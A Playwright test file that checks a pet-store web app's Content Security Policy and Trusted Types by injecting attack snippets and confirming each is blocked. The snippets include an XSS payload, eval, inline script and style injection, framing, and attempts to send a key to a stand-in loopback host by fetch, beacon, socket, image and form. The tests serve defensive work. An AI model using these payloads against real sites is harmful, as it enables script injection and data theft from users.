import { once } from 'node:events';
import { createServer } from 'node:http';
import { expect, type Page } from 'playwright/test';
import { APP_PORT, FRAMING_PORT, SERVICE_URL } from './setup/addresses.ts';
import { openStore, test } from './setup/journey.ts';

// Loopback, so that the browser has no other reason to stop what is sent there; nothing listens.
const ELSEWHERE = 'http://127.0.0.1:9';

/** Runs code as a script of the app's own would run: with no leave of the debugger's. */
async function runInApp(page: Page, code: string): Promise<void> {
  await page.route('**/assets/planted.js', (route) =>
    route.fulfill({ contentType: 'text/javascript', body: code }),
  );
  await page.evaluate(`import('/assets/planted.js')`);
}

interface Attack {
  name: string;
  code: string;
  stoppedBy: string;
}

const ATTACKS: readonly Attack[] = [
  {
    name: 'a script made of text',
    code: `const script = document.createElement('script');
      script.append('document.title = "taken"');
      document.head.append(script);`,
    stoppedBy: 'require-trusted-types-for',
  },
  {
    name: 'a script from elsewhere',
    code: `import('${ELSEWHERE}/x.js').catch(() => 0);`,
    stoppedBy: 'script-src-elem',
  },
  {
    name: 'eval',
    code: `try { eval('document.title = "taken"') } catch {}`,
    stoppedBy: 'require-trusted-types-for',
  },
  {
    name: 'HTML from text',
    code: `try { document.body.innerHTML = '<img src=x onerror=alert(1)>' } catch {}`,
    stoppedBy: 'require-trusted-types-for',
  },
  {
    name: 'a Trusted Types policy of its own',
    code: `try { trustedTypes.createPolicy('default', {}) } catch {}`,
    stoppedBy: 'trusted-types',
  },
  {
    name: 'an inline style',
    code: `const style = document.createElement('style');
      style.append('body { display: none }');
      document.head.append(style);`,
    stoppedBy: 'style-src-elem',
  },
  {
    name: 'a style attribute',
    code: `document.body.setAttribute('style', 'display: none');`,
    stoppedBy: 'style-src-attr',
  },
  {
    name: 'a request elsewhere',
    code: `fetch('${ELSEWHERE}/').catch(() => 0);`,
    stoppedBy: 'connect-src',
  },
  {
    name: 'a beacon',
    code: `navigator.sendBeacon('${ELSEWHERE}/', 'key');`,
    stoppedBy: 'connect-src',
  },
  {
    name: 'a socket',
    code: `try { new WebSocket('${ELSEWHERE.replace('http', 'ws')}/') } catch {}`,
    stoppedBy: 'connect-src',
  },
  {
    name: 'a picture from elsewhere',
    code: `new Image().src = '${ELSEWHERE}/?key';`,
    stoppedBy: 'img-src',
  },
  {
    name: 'a frame within the page',
    code: `const frame = document.createElement('iframe');
      frame.src = '${ELSEWHERE}/';
      document.body.append(frame);`,
    stoppedBy: 'frame-src',
  },
  {
    name: 'a form that is sent elsewhere',
    code: `const form = document.createElement('form');
      form.action = '${ELSEWHERE}/';
      document.body.append(form);
      form.submit();`,
    stoppedBy: 'form-action',
  },
  {
    name: 'another base for addresses',
    code: `const base = document.createElement('base');
      base.href = '${ELSEWHERE}/';
      document.head.append(base);`,
    stoppedBy: 'base-uri',
  },
];

/** That the page shows what it showed. Asked of the page at once: a stopped form leaves a locator waiting. */
async function expectUnharmed(page: Page): Promise<void> {
  const seen = await page.evaluate(() => ({
    title: document.title,
    isTableVisible: document.querySelector('table')?.checkVisibility(),
  }));
  expect(seen).toEqual({ title: 'Pets – Staging – Pet Store', isTableVisible: true });
}

test.beforeEach(({ service }) => void service);

for (const { name, code, stoppedBy } of ATTACKS)
  test(`stopped: ${name}`, async ({ page, complaints }) => {
    const answered: string[] = [];
    page.on('response', (response) => answered.push(response.url()));
    await openStore(page);
    await expect(page.getByRole('table', { name: 'Pets' })).toBeVisible();
    expect(complaints).toEqual([]);

    await runInApp(page, code);
    await expect.poll(() => complaints.join('\n')).toContain(`stopped by ${stoppedBy}:`);
    await expectUnharmed(page);
    expect(answered.filter((url) => url.startsWith(ELSEWHERE))).toEqual([]);
    complaints.splice(0);
  });

test('the page carries the policy itself, before all else', async ({ page }) => {
  const answer = await page.goto('/pets');
  const header = answer?.headers()['content-security-policy'] ?? '';
  expect(header).toContain(`; connect-src 'self' ${new URL(SERVICE_URL).origin}; `);
  const first = page.locator('head > :first-child');
  await expect(first).toHaveAttribute('http-equiv', 'Content-Security-Policy');
  // Browsers take this one part from a header alone.
  await expect(first).toHaveAttribute('content', header.replace("frame-ancestors 'none'; ", ''));
});

test('stopped: scripts and styles planted in the HTML', async ({ page, complaints }) => {
  await page.route('**/pets', async (route) => {
    const response = await route.fetch();
    const planted = `<script>planted = 1</script><style>h1 { display: none }</style>
      <svg onload="planted = 1" style="width: 9px"></svg>`;
    const body = (await response.text()).replace('<noscript>', `${planted}<noscript>`);
    await route.fulfill({ response, body });
  });
  await page.goto('/pets');
  await expect(page.getByRole('heading', { name: 'Enter your API key' })).toBeVisible();
  expect(await page.evaluate(() => 'planted' in globalThis)).toBe(false);
  for (const part of ['script-src-elem', 'script-src-attr', 'style-src-elem', 'style-src-attr'])
    expect(complaints).toContain(`stopped by ${part}: inline`);
  complaints.splice(0);
});

test('stopped: the app in a frame of another page', async ({ page, complaints }) => {
  // A server of its own: Chromium takes a page that is only made up here for one of the open net,
  // and would not let it reach this computer in any case.
  const server = createServer((_request, response) => {
    response.setHeader('Content-Type', 'text/html');
    response.end(`<iframe src="http://127.0.0.1:${APP_PORT}/"></iframe>`);
  });
  server.listen(FRAMING_PORT, '127.0.0.1');
  await once(server, 'listening');
  await page.goto(`http://127.0.0.1:${FRAMING_PORT}/`);
  // What Chromium shows in place of a page that it does not show.
  await expect.poll(() => page.frames().at(1)?.url()).toBe('chrome-error://chromewebdata/');
  server.closeAllConnections();
  server.close();
  complaints.splice(0);
});
